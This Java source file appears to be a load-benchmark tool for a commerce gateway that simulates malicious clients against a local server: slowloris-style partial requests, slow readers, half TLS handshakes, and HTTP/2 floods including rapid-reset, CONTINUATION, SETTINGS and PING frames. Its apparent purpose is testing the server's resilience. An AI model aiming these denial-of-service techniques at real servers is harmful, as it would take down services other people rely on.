package app.rcommerce.gateway.benchmarks.load;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Queue;

/**
 * Clients that mean ill, to measure honest ones beside: many that begin something and do not end it, or a flood of
 * connections that each send what costs a server more than them. Until it is ended.
 *
 * <p>{@code Attack KIND PORT COUNT}: so many at once, from addresses 127.0.1.1 and on of a hundred each, for kinds that
 * hold on; so many a second, from 127.0.0.2, for floods.
 */
public final class Attack {

    private static final int AT_ONE_ADDRESS = 100;
    /** How many connections of a flood are open at once. */
    private static final int OPEN = 50;

    private static final int FRAMES = 600;
    private static final byte[] GET = HexFormat.of().parseHex("828684" + "010161");
    private static final byte[] NONE = {};

    /** What is sent first; kinds that flood send it and are done, the others hold on to what they have. */
    private enum Kind {
        HEADS(false, "GET / HTTP/1.1\r\nHost: shop"),
        CONTENTS(false, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\nbegun"),
        READERS(false, "GET /large HTTP/1.1\r\nHost: a\r\n\r\n"),
        HANDSHAKES(false, new String(HexFormat.of().parseHex("1603010200010001fc0303"), ISO_8859_1)),
        PROXY_HEADERS(false, "PROXY TCP4 203.0.113.7 192.0"),
        HALF_FRAMES(false, http2(new byte[] {0, 0, 100, 0})),
        ZERO_WINDOW(false, zeroWindow()),
        RESETS(true, http2(resets())),
        CONTINUATION(true, http2(continuations())),
        SETTINGS(true, http2(repeated(frame(4, 0, 0, NONE)))),
        PINGS(true, http2(repeated(frame(6, 0, 0, new byte[8])))),
        CONNECTIONS(true, "");

        private final boolean flood;
        private final byte[] sent;

        Kind(boolean flood, String sent) {
            this.flood = flood;
            this.sent = sent.getBytes(ISO_8859_1);
        }
    }

    private Attack() {}

    private static byte[] frame(int type, int flags, int stream, byte[] content) {
        return ByteBuffer.allocate(9 + content.length)
                .put((byte) 0)
                .putShort((short) content.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(content)
                .array();
    }

    /** The beginning of a connection, its settings acknowledged in advance, and some more. */
    private static String http2(byte[] more) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1));
        // An initial window of nothing.
        all.writeBytes(frame(4, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
        all.writeBytes(frame(4, 1, 0, NONE));
        all.writeBytes(more);
        return all.toString(ISO_8859_1);
    }

    private static byte[] repeated(byte[] frame) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < FRAMES; i++) {
            all.writeBytes(frame);
        }
        return all.toByteArray();
    }

    private static byte[] resets() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < FRAMES; i++) {
            all.writeBytes(frame(1, 5, 2 * i + 1, GET));
            all.writeBytes(frame(3, 0, 2 * i + 1, new byte[] {0, 0, 0, 8}));
        }
        return all.toByteArray();
    }

    private static byte[] continuations() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(frame(1, 1, 1, GET));
        all.writeBytes(repeated(frame(9, 0, 1, new byte[] {(byte) 0x82})));
        return all.toByteArray();
    }

    /** A hundred streams that ask for much, of which none may be sent. */
    private static String zeroWindow() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        byte[] path = "/large".getBytes(ISO_8859_1);
        byte[] section = ByteBuffer.allocate(7 + path.length)
                .put(new byte[] {(byte) 0x82, (byte) 0x86, 0x01, 1, 'a', 0x04, (byte) path.length})
                .put(path)
                .array();
        for (int i = 0; i < 100; i++) {
            all.writeBytes(frame(1, 5, 2 * i + 1, section));
        }
        return http2(all.toByteArray());
    }

    /** Attacks. */
    public static void main(String[] arguments) throws Exception {
        Kind kind = Kind.valueOf(arguments[0]);
        int port = Integer.parseInt(arguments[1]);
        int count = Integer.parseInt(arguments[2]);
        if (kind.flood) {
            flood(kind, port, count);
        } else {
            hold(kind, port, count);
        }
    }

    private static SocketChannel open(String from, int port) throws IOException {
        SocketChannel socket = SocketChannel.open();
        socket.setOption(StandardSocketOptions.SO_LINGER, 0);
        socket.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
        socket.bind(new InetSocketAddress(from, 0));
        socket.connect(new InetSocketAddress("127.0.0.1", port));
        socket.configureBlocking(false);
        return socket;
    }

    private static void flood(Kind kind, int port, int each) throws Exception {
        Queue<SocketChannel> open = new ArrayDeque<>();
        ByteBuffer in = ByteBuffer.allocate(65_536);
        long begun = System.nanoTime();
        for (long number = 0; ; number++) {
            long early = begun + number * 1_000_000_000L / each - System.nanoTime();
            if (early > 0) {
                Thread.sleep(early / 1_000_000, (int) (early % 1_000_000));
            }
            try {
                SocketChannel socket = open("127.0.0.2", port);
                open.add(socket);
                socket.write(ByteBuffer.wrap(kind.sent));
                socket.read(in.clear());
            } catch (IOException e) {
                // Refused, as it should be.
            }
            if (open.size() > (kind == Kind.CONNECTIONS ? 4 * OPEN : OPEN)) {
                open.remove().close();
            }
        }
    }

    private static void hold(Kind kind, int port, int count) throws Exception {
        List<SocketChannel> held = new ArrayList<>();
        ByteBuffer in = ByteBuffer.allocate(1);
        for (int i = 0; i < count; i++) {
            held.add(begin(kind, port, i));
        }
        System.out.println("open");
        while (true) {
            Thread.sleep(100);
            for (int i = 0; i < count; i++) {
                // Who reads nothing does not notice; the others begin anew once they are let go.
                if (kind == Kind.READERS || kind == Kind.ZERO_WINDOW) {
                    continue;
                }
                try {
                    if (held.get(i).read(in.clear()) >= 0) {
                        continue;
                    }
                } catch (IOException e) {
                    // Let go with a reset.
                }
                held.get(i).close();
                held.set(i, begin(kind, port, i));
            }
        }
    }

    private static SocketChannel begin(Kind kind, int port, int number) throws IOException {
        SocketChannel socket = open("127.0.1." + (1 + number / AT_ONE_ADDRESS), port);
        socket.write(ByteBuffer.wrap(kind.sent));
        return socket;
    }
}
